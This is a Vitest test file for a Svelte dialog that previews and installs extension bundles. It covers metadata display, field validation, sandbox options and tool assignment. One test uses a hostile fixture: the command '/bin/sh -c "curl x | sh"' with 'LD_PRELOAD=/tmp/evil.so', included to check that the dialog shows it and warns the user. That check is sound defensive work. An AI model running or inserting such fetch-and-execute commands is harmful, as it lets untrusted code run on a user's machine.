import { afterEach, describe, expect, it, vi } from "vitest";
import { flushSync, mount, tick, unmount } from "svelte";
import type { ExtensionField, ExtensionPreview } from "../lib/types";
import { eventually } from "../testing/eventually";

const fake = vi.hoisted(() => ({ previewExtension: vi.fn(), installExtension: vi.fn(), chooseExtensionPath: vi.fn(), toolCatalog: vi.fn(), giveTools: vi.fn(), coworkers: vi.fn() }));
vi.mock("../lib/api", () => ({ api: fake }));
const { default: ExtensionInstall } = await import("./ExtensionInstall.svelte");

const field = (f: Partial<ExtensionField>): ExtensionField => ({
  key: "k", type: "string", title: "", description: "", required: false, default: null, multiple: false, sensitive: false, min: null, max: null, kept: false, ...f,
});
const WORDS = "reads system files and its own folder, writes only in the workspace, its temp folder and the folders of its settings, no network";
const NOTE = "An extension that needs the network or other folders will fail inside it; turn the sandbox off for it in Settings → Extensions.";
const preview = (over: Partial<ExtensionPreview> = {}): ExtensionPreview => ({
  path: "/d/memory.mcpb", display_name: "Memory (test)", name: "memory", version: "1.0.0", author: { name: "OpenWorker tests", email: "t@example.com", url: "" },
  description: "A knowledge graph memory.", homepage: "", tools: [{ name: "read_graph", description: "Read the graph" }], tools_generated: false,
  prompts: [], prompts_generated: false, server_type: "node", runs: "node ${__dirname}/server/index.js", environment: "",
  runtime: { name: "node", title: "Node.js", range: ">=18.0.0", url: "https://nodejs.org/", found: "", fits: false }, platforms: ["darwin", "linux"],
  signature: { status: "self-signed", subject: "CN=Tests", problem: "" }, privacy_policies: ["https://example.com/privacy"], namespace: "memory",
  installed: "", blocking: [], warnings: ["it needs Node.js >=18.0.0, which was not found; install it from https://nodejs.org/"], files: 2, bytes: 2048,
  fields: [
    field({ key: "data_dir", type: "directory", title: "Data folder", required: true, description: "Where the memory is kept" }),
    field({ key: "api_token", title: "API token", required: true, sensitive: true }),
    field({ key: "limit", type: "number", title: "Limit", min: 1, max: 5, default: 2 }),
    field({ key: "extra", type: "file", title: "Extra files", multiple: true }),
  ],
  sandbox: { words: WORDS, note: NOTE, on: false, unsupported: "" },
  digest: "d1", ...over,
});

const mounted: ReturnType<typeof mount>[] = [];
afterEach(() => {
  mounted.splice(0).forEach((c) => unmount(c));
  document.body.innerHTML = "";
  vi.clearAllMocks();
});

async function render(p: ExtensionPreview | Error) {
  if (p instanceof Error) fake.previewExtension.mockRejectedValue(p);
  else fake.previewExtension.mockResolvedValue(p);
  const onclose = vi.fn();
  const oninstalled = vi.fn();
  const target = document.createElement("div");
  document.body.append(target);
  mounted.push(mount(ExtensionInstall, { target, props: { path: "/d/memory.mcpb", onclose, oninstalled } }));
  await eventually(() => expect(fake.previewExtension).toHaveBeenCalled());
  await tick();
  await tick();
  flushSync();
  const button = (label: string) => Array.from(target.querySelectorAll("button")).find((b) => b.textContent?.trim() === label)!;
  const type = (sel: string, v: string) => {
    const i = target.querySelector<HTMLInputElement>(sel)!;
    i.value = v;
    i.dispatchEvent(new Event("input", { bubbles: true }));
    flushSync();
  };
  return { target, dialog: target.querySelector<HTMLElement>("[role=dialog]")!, button, type, onclose, oninstalled };
}

describe("ExtensionInstall", () => {
  it("shows what the file holds and what it needs, the warning without blocking", async () => {
    const { dialog, target } = await render(preview());
    expect(dialog.getAttribute("aria-modal")).toBe("true");
    const text = dialog.textContent!;
    for (const s of ["Install Memory (test) 1.0.0", "OpenWorker tests", "t@example.com", "A knowledge graph memory.", "read_graph", "Self-signed by CN=Tests",
      "darwin, linux", "https://example.com/privacy", "2 files, 2.0 KB", "not found on this computer", "https://nodejs.org/", "which was not found"]) {
      expect(text).toContain(s);
    }
    expect(target.querySelector(".banner.warning")).not.toBeNull();
    expect(target.querySelector(".banner.error")).toBeNull();
    expect(target.querySelector<HTMLInputElement>("#ext-api_token")!.type).toBe("password");
    expect(text).toContain("Kept in the OS keychain");
    expect(target.querySelector("label[for=ext-data_dir]")!.textContent).toContain("*");
    expect(target.querySelector<HTMLInputElement>("#ext-limit")!.value).toBe("2");
    await eventually(() => expect(document.activeElement).toBe(target.querySelector("#ext-data_dir")));
    expect(text).toContain("node ${__dirname}/server/index.js");
    expect(text).not.toContain("Environment");
  });

  it("shows the command line and environment it runs, and the warning of a program outside the bundle", async () => {
    const w = 'it runs "/bin/sh", a program outside its own folder: it can do whatever your account can; install it only if you trust its author';
    const { dialog } = await render(preview({ runs: '/bin/sh -c "curl x | sh"', environment: "LD_PRELOAD=/tmp/evil.so", warnings: [w] }));
    const text = dialog.textContent!;
    expect(text).toContain('/bin/sh -c "curl x | sh"');
    expect(text).toContain("EnvironmentLD_PRELOAD=/tmp/evil.so");
    expect(text).toContain(w);
  });

  it("waits for the required fields, checks the range, and installs the values", async () => {
    const { button, type, target, oninstalled } = await render(preview());
    expect(button("Install").disabled).toBe(true);
    fake.chooseExtensionPath.mockResolvedValue(["/home/a/memory"]);
    (target.querySelector(".field .row button") as HTMLButtonElement).click(); // Choose… of Data folder
    await eventually(() => expect(target.querySelector<HTMLInputElement>("#ext-data_dir")!.value).toBe("/home/a/memory"));
    expect(fake.chooseExtensionPath).toHaveBeenCalledWith("directory", "Choose Data folder");
    type("#ext-api_token", "tok-1");
    type("#ext-limit", "9");
    expect(target.textContent).toContain("Limit must be between 1 and 5.");
    expect(button("Install").disabled).toBe(true);
    type("#ext-limit", "3");
    button("Add another").click();
    flushSync();
    type("#ext-extra", "/a.txt");
    type("#ext-extra-1", "/b.txt");
    expect(button("Install").disabled).toBe(false);
    const done = { name: "memory", display_name: "Memory (test)", version: "1.0.0", namespace: "memory", upgraded: "" };
    fake.installExtension.mockResolvedValue(done);
    button("Install").click();
    await eventually(() => expect(oninstalled).toHaveBeenCalled());
    expect(fake.installExtension).toHaveBeenCalledWith("/d/memory.mcpb", "d1", { data_dir: "/home/a/memory", api_token: "tok-1", limit: 3, extra: ["/a.txt", "/b.txt"] }, false);
    expect(oninstalled.mock.calls[0][1]).toMatch(/^Installed Memory \(test\) 1\.0\.0 as provider memory/);
  });

  it("takes a number field cleared again as empty, not as “null”", async () => {
    const { button, type, target, oninstalled } = await render(preview({ fields: [field({ key: "limit", type: "number", title: "Limit", min: 1, max: 5, default: 2 })] }));
    type("#ext-limit", "");
    target.querySelector<HTMLInputElement>("#ext-limit")!.dispatchEvent(new Event("blur"));
    flushSync();
    expect(target.textContent).not.toContain("null");
    expect(target.querySelector(".field .error")).toBeNull();
    expect(button("Install").disabled).toBe(false);
    fake.installExtension.mockResolvedValue({ name: "memory", display_name: "", version: "1.0.0", namespace: "memory", upgraded: "" });
    button("Install").click();
    await eventually(() => expect(oninstalled).toHaveBeenCalled());
    expect(fake.installExtension).toHaveBeenCalledWith("/d/memory.mcpb", "d1", {}, false); // left out: its default applies
  });

  it("says what is missing when Return is pressed in an incomplete form, and goes to it", async () => {
    const { target } = await render(preview());
    const token = target.querySelector<HTMLInputElement>("#ext-api_token")!;
    token.focus();
    token.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
    flushSync();
    await tick();
    expect(target.textContent).toContain("Data folder is required.");
    expect(target.textContent).toContain("API token is required.");
    await eventually(() => expect(document.activeElement).toBe(target.querySelector("#ext-data_dir")));
    expect(fake.installExtension).not.toHaveBeenCalled();
  });

  it("isolates a right-to-left display name and author from the version and the text around them", async () => {
    const { target } = await render(preview({ display_name: "🧠 ذاكرة Memory שלום", author: { name: "محمد 👩‍💻", email: "", url: "" } }));
    expect(target.querySelector("h2 bdi")?.textContent).toBe("🧠 ذاكرة Memory שלום");
    expect(target.querySelector("#ext-desc bdi")?.textContent).toBe("محمد 👩‍💻");
    expect(target.querySelector(".desc")?.getAttribute("dir")).toBe("auto");
  });

  it("disables Install for a blocking reason and shows it as an error", async () => {
    const { button, target } = await render(preview({ blocking: ["it is made for macOS only"], fields: [] }));
    expect(target.querySelector(".banner.error")!.textContent).toContain("it is made for macOS only");
    expect(button("Install").disabled).toBe(true);
  });

  it("shows why a file cannot be read, and Esc closes", async () => {
    const { dialog, onclose } = await render(new Error("/d/weather.mcpb: not a zip archive"));
    expect(dialog.textContent).toContain("Cannot install memory.mcpb: /d/weather.mcpb: not a zip archive");
    dialog.dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", bubbles: true }));
    expect(onclose).toHaveBeenCalled();
  });

  it("keeps the dialog open with the error when the install is refused", async () => {
    const { button, type, dialog, oninstalled } = await render(preview({ fields: [field({ key: "x", required: true })] }));
    type("#ext-x", "v");
    fake.installExtension.mockRejectedValue(new Error("/d/memory.mcpb changed since it was shown; look at it again before installing (nothing was installed)"));
    button("Install").click();
    await eventually(() => expect(dialog.textContent).toContain("changed since it was shown"));
    expect(oninstalled).not.toHaveBeenCalled();
    expect(button("Look again")).toBeDefined();
  });

  it("offers to run it in a sandbox, says what that allows, and installs with the box as ticked", async () => {
    const { button, target, oninstalled } = await render(preview({ fields: [] }));
    const box = target.querySelector<HTMLInputElement>("#ext-sandbox")!;
    expect(box.closest("label")!.textContent!.trim()).toBe("Run it in a sandbox");
    expect(box.checked).toBe(false); // a new install starts without one
    expect(box.disabled).toBe(false);
    const about = target.querySelector("#ext-sandbox-about")!.textContent!;
    expect(about).toContain(`Inside it, it ${WORDS}.`);
    expect(about).toContain("will fail inside it");
    box.click();
    flushSync();
    fake.installExtension.mockResolvedValue({ name: "memory", display_name: "", version: "1.0.0", namespace: "memory", upgraded: "" });
    button("Install").click();
    await eventually(() => expect(oninstalled).toHaveBeenCalled());
    expect(fake.installExtension).toHaveBeenCalledWith("/d/memory.mcpb", "d1", {}, true);
  });

  it("starts an upgrade's box at the installed choice", async () => {
    const { target } = await render(preview({ fields: [], installed: "0.9.0", sandbox: { words: WORDS, note: NOTE, on: true, unsupported: "" } }));
    expect(target.querySelector<HTMLInputElement>("#ext-sandbox")!.checked).toBe(true);
  });

  it("disables the box with the reason when this computer cannot enforce the sandbox", async () => {
    const why = "the kernel's Landlock is ABI 2; a sandbox needs ABI 3 (Linux 6.2)";
    const { button, target, oninstalled } = await render(preview({ fields: [], installed: "0.9.0", sandbox: { words: WORDS, note: NOTE, on: true, unsupported: why } }));
    const box = target.querySelector<HTMLInputElement>("#ext-sandbox")!;
    expect(box.disabled).toBe(true);
    expect(box.checked).toBe(false);
    expect(target.querySelector("#ext-sandbox-about")!.textContent).toBe(`This computer cannot enforce the sandbox: ${why}`);
    fake.installExtension.mockResolvedValue({ name: "memory", display_name: "", version: "1.0.0", namespace: "memory", upgraded: "0.9.0" });
    button("Upgrade to 1.0.0").click();
    await eventually(() => expect(oninstalled).toHaveBeenCalled());
    expect(fake.installExtension).toHaveBeenCalledWith("/d/memory.mcpb", "d1", {}, false);
  });

  it("ends with Give these tools to…, the new provider's tools preselected for a new coworker named after it", async () => {
    const { button, target, onclose } = await render(preview({ fields: [] }));
    fake.installExtension.mockResolvedValue({ name: "memory", display_name: "Memory (test)", version: "1.0.0", namespace: "memory", upgraded: "" });
    fake.toolCatalog.mockResolvedValue([{ namespace: "memory", provider: "mcp:memory", kind: "extension", title: "Memory (test) 1.0.0", source: "", error: "",
      tools: [{ name: "memory.read_graph", description: "Read the graph", effect: "read_only" }] }]);
    fake.coworkers.mockResolvedValue({ dir: "/c", coworkers: [], broken: [], error: "" });
    button("Install").click();
    await eventually(() => expect(target.textContent).toContain("Give these tools to…"));
    expect(fake.toolCatalog).toHaveBeenCalledWith(["memory"]);
    await eventually(() => expect(target.querySelector<HTMLInputElement>(".give-tools input")?.checked).toBe(true));
    expect(target.querySelector<HTMLInputElement>("#give-name")!.value).toBe("Memory (test)");
    fake.giveTools.mockResolvedValue({ id: "memory-test", name: "Memory (test)", dir: "/c/memory-test", created: true, added: ["memory.read_graph"] });
    button("Give 1 tool").click();
    await eventually(() => expect(onclose).toHaveBeenCalled());
    expect(fake.giveTools).toHaveBeenCalledWith("", "Memory (test)", ["memory.read_graph"]);
  });
});
